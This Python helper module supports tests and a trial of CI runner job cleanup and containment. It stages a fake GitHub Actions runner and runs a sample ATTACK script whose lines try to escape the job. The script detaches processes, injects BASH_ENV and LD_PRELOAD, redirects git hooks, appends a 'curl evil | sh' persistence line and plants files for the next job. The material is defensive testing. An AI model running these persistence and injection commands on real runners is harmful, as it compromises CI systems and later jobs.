"""Stand-ins for a runner's places and jobs, shared by the containment trial on a real box (trial.py) and the tests
(tests/ci/test_job_cleanup.py): a runner's folders staged in a temporary one, with the installed job-cleanup.py and
job-started hook; the gate's main step and cleanup step as gpu-gate.yml has them, run with an attack in place of the
gate; the next job's hook. (The job sandbox's own stand-ins are sandbox_standins.py.) Plain functions over plain
folders: no test framework,
PyYAML alone (to read the workflow).

Imported as `standins`: the trial finds it beside itself, the tests through pytest's pythonpath (pyproject.toml).
"""

import os
import signal
import subprocess
import time
from pathlib import Path

import yaml

ROOT = Path(__file__).resolve().parents[2]
CLEANUP = ROOT / ".github" / "runner" / "job-cleanup.py"
HOOK = ROOT / ".github" / "runner" / "job-started.sh"
INSTALLED = "/usr/local/libexec/sgemm-runner/job-cleanup.py"
REPO = "octo/gemm"
RUNNER_UID = 65534  # stands in for the runner's user: owns JOB_DIR and the checkouts

# What a pull request's code might do to outlive its job or reach the next one, run in place of the gate.
ATTACK = r"""
setsid -f bash -c 'echo $$ > "$PIDS/escaped"; exec sleep 300' > /dev/null 2>&1
( bash -c 'echo $$ > "$PIDS/double"; exec sleep 300' > /dev/null 2>&1 & )
echo "BASH_ENV=$HOME/.evil" >> "$GITHUB_ENV"
echo "LD_PRELOAD=$HOME/evil.so" >> "$GITHUB_ENV"
echo "$HOME/bin" >> "$GITHUB_PATH"
echo "session=1" >> "$GITHUB_OUTPUT"
printf '[core]\n\thooksPath = %s/hooks\n' "$HOME" > "$HOME/.gitconfig"
echo 'curl evil | sh' >> "$HOME/.profile"
mkdir -p "$HOME/.config/systemd/user" && echo '[Service]' > "$HOME/.config/systemd/user/evil.service"
echo planted > "$SHARED_TMP/for-the-next-job"
mkdir "$SHARED_TMP/closed" && echo x > "$SHARED_TMP/closed/inside" && chmod 000 "$SHARED_TMP/closed"
echo mine > "$JOB_DIR/report/gate-report.md"
for _ in $(seq 100); do [ -s "$PIDS/escaped" ] && [ -s "$PIDS/double" ] && break; sleep 0.05; done
"""


def gate_steps():
    steps = yaml.safe_load((ROOT / ".github" / "workflows" / "gpu-gate.yml").read_text())["jobs"]["gate"]["steps"]
    main = next(step for step in steps if step.get("id") == "main")
    ending = next(step for step in steps if "job-cleanup.py job" in step.get("run", ""))
    return main, ending


def main_step_running(code: str, installed: Path) -> str:
    """The gate's main step as the workflow has it, with `code` in place of the gate (from sourcing gpu-job.sh to
    its `exit "$status"`)."""
    main, _ = gate_steps()
    lines = main["run"].replace(INSTALLED, str(installed)).splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith(". base/.github/gpu-job.sh"))
    end = max(i for i, line in enumerate(lines) if line == 'exit "$status"')
    return "\n".join([*lines[:start], 'mkdir -p "$JOB_DIR/report"', "status=0", code, *lines[end:]]) + "\n"


def stage(tmp_path: Path) -> dict:
    """A runner's places, in tmp_path: its user's home (the runner folder and _work inside, as config.sh makes
    them), the shared temp, the state folder, the installed cleanup and hook."""
    home, shared = tmp_path / "home", tmp_path / "tmp"
    work = home / "actions-runner" / "_work"
    temp, workspace, commands = work / "_temp", work / "gemm" / "gemm", work / "_temp" / "_runner_file_commands"
    for folder in (commands, workspace, shared, tmp_path / "state", tmp_path / "pids", home / "actions-runner" / "bin"):
        folder.mkdir(parents=True)
    (home / ".profile").write_text("# the runner user's own\n")
    (home / ".old-note").write_text("from before the job\n")
    (home / "actions-runner" / "bin" / "Runner.Worker").write_text("the runner's program\n")
    installed = tmp_path / "libexec" / "job-cleanup.py"
    installed.parent.mkdir()
    installed.write_text(CLEANUP.read_text().replace("@STATE_DIR@", str(tmp_path / "state")))
    hook = tmp_path / "libexec" / "job-started-gate.sh"
    hook.write_text(HOOK.read_text().replace("@ROLE@", "gate").replace("@REPOSITORY@", REPO)
                    .replace("@STATE_DIR@", str(tmp_path / "state")))
    files = {name: commands / f"{prefix}_0001" for name, prefix in (
        ("GITHUB_ENV", "set_env"), ("GITHUB_PATH", "add_path"), ("GITHUB_OUTPUT", "set_output"),
        ("GITHUB_STATE", "save_state"))}
    for path in files.values():
        path.write_text("")
    env = {"PATH": os.environ["PATH"], "HOME": str(home), "RUNNER_TEMP": str(temp), "GITHUB_WORKSPACE": str(workspace),
           "JOB_DIR": str(temp / "sgemm-job"), "SHARED_TMP": str(shared), "PIDS": str(tmp_path / "pids"),
           **{name: str(path) for name, path in files.items()}}
    time.sleep(0.05)  # what was there before the job is older than its start
    return {"tmp": tmp_path, "home": home, "shared": shared, "installed": installed, "hook": hook, "env": env,
            "files": files, "flag": tmp_path / "state" / "TAINTED", "runner": home / "actions-runner"}


def end_started(runner: dict) -> list:
    """Ends, by its id, every process the attack recorded that is still running; returns those it had to end."""
    ended = []
    for pid_file in (runner["tmp"] / "pids").iterdir():
        text = pid_file.read_text().strip()
        if text.isdigit() and alive(int(text)):
            os.kill(int(text), signal.SIGKILL)
            ended.append(int(text))
    return ended


def next_job_refused(runner: dict):
    """The job-started hook, as the runner runs it before the next gate job: it must refuse a flagged runner."""
    gate_job = {"GITHUB_REPOSITORY": REPO,
                "GITHUB_WORKFLOW_REF": f"{REPO}/.github/workflows/gpu-gate.yml@refs/heads/main",
                "GITHUB_JOB": "gate", "GITHUB_EVENT_NAME": "pull_request_target", "PATH": "/usr/bin:/bin"}
    return subprocess.run(["bash", str(runner["hook"])], check=False, env=gate_job, capture_output=True, text=True)


def run_job(runner, code: str):
    """The main step, then the cleanup step with what the runner would hand it: the main step's outputs and
    whatever its $GITHUB_ENV still holds."""
    main, ending = gate_steps()
    script = runner["tmp"] / "main.sh"
    script.write_text(main_step_running(code, runner["installed"]))
    shell = main["shell"].replace("{0}", str(script)).split()
    first = subprocess.run(shell, check=False, env=runner["env"], capture_output=True, text=True, timeout=60)
    outputs = dict(line.split("=", 1) for line in runner["files"]["GITHUB_OUTPUT"].read_text().splitlines())
    applied = dict(line.split("=", 1) for line in runner["files"]["GITHUB_ENV"].read_text().splitlines() if "=" in line)
    places = (f" --watch {runner['home']} --watch {runner['shared']} --keep {runner['runner'] / '_diag'}"
              " --only-marked")  # the test's user runs pytest too: only the job's marks count here
    second = subprocess.run(["bash", "-c", ending["run"].replace(INSTALLED, str(runner["installed"])) + places],
                            check=False, env={**runner["env"], **applied, "JOB_SESSION": outputs.get("session", ""),
                                 "JOB_MARK": outputs.get("mark", ""), "JOB_STARTED": outputs.get("started", "")},
                            capture_output=True, text=True, timeout=60)
    return first, second, outputs


def alive(pid: int) -> bool:
    """Whether the process runs (a zombie, or one being reaped, does not)."""
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state not in "ZX"
